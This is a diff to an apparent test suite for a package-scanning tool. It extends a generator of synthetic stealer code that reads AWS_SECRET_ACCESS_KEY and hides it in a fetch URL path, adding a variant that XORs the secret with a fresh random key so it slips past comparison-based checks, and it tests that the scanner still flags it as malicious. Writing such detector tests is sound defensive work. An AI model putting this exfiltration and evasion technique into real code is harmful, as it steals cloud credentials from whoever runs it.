@@ -48,17 +48,31 @@ def _fetch(r: Randomised, path_expr: str, nonce_header: bool = False) -> str:
     )
 
 
-def _stealer(r: Randomised, with_nonce: bool) -> str:
+# a key drawn fresh each run that the secret is mixed with (and sent beside it, so the
+# receiver can undo it): every token then differs between any two passes
+_MIXES = {
+    "urandom": "os.urandom(8)",
+    "clock": 'time.time_ns().to_bytes(8, "little")',
+}
+
+
+def _stealer(r: Randomised, with_nonce: bool, mix: str = "") -> str:
     chunk = r.rng.randrange(12, 21)
     nonce = '_spell(uuid.uuid4().bytes[:6]) + "/" + ' if with_nonce else ""
     cut = f'"/".join(_E[i : i + {chunk}] for i in range(0, len(_E), {chunk}))'
     path = f'"/assets/" + {nonce}{cut} + "/model.json"'
     src = _fetch(r, path, nonce_header=with_nonce)
-    return src.replace(
-        "try:\n",
-        '_E = _spell(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode())\n\ntry:\n',
-        1,
-    )
+    secret = 'os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()'
+    if mix:
+        # it sleeps first: time.sleep must work under the seeded passes' clock
+        read = (
+            "time.sleep(0.05)\n"
+            f"_K = {_MIXES[mix]}\n"
+            f"_E = _spell(_K) + _spell(bytes(b ^ _K[i % 8] for i, b in enumerate({secret})))\n"
+        )
+    else:
+        read = f"_E = _spell({secret})\n"
+    return src.replace("try:\n", read + "\ntry:\n", 1)
 
 
 def _vet(tmp_path: Path, prefix: str, src: str) -> tuple[int, Report | None]:
@@ -83,6 +97,24 @@ def test_a_secret_spelled_in_letters_in_a_fetch_path_is_caught(tmp_path: Path, w
     assert "reached out" in _passes(report)["secrets"]
     ps031 = [f for f in report.findings if f.rule_id == "PS031"]
     assert ps031 and ps031[0].phase is Phase.IMPORT and ps031[0].pass_name == "secrets", [
+        (f.rule_id, f.phase, f.message) for f in report.findings
+    ]
+    assert "request target" in ps031[0].message, ps031[0].message
+    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+
+
+@pytest.mark.parametrize("mix", sorted(_MIXES))
+def test_a_secret_mixed_with_a_fresh_key_in_a_fetch_path_is_caught(tmp_path: Path, mix: str) -> None:
+    """The same stealer, the secret XORed with a key drawn fresh each run (from the
+    kernel's randomness, or the clock) and the key sent first: default and control
+    agree on no token. The secrets and control passes draw the same randomness and read
+    the same clock (libfaketime's seeded getrandom and a clock that counts its reads),
+    so there only the secret's part differs."""
+    code, report = _vet(tmp_path, "cdnmixed", _stealer(Randomised(), False, mix))
+    assert report is not None
+    assert {"secrets", "control"} <= _passes(report).keys(), _passes(report)
+    ps031 = [f for f in report.findings if f.rule_id == "PS031"]
+    assert ps031 and ps031[0].phase is Phase.IMPORT, [
         (f.rule_id, f.phase, f.message) for f in report.findings
     ]
     assert "request target" in ps031[0].message, ps031[0].message
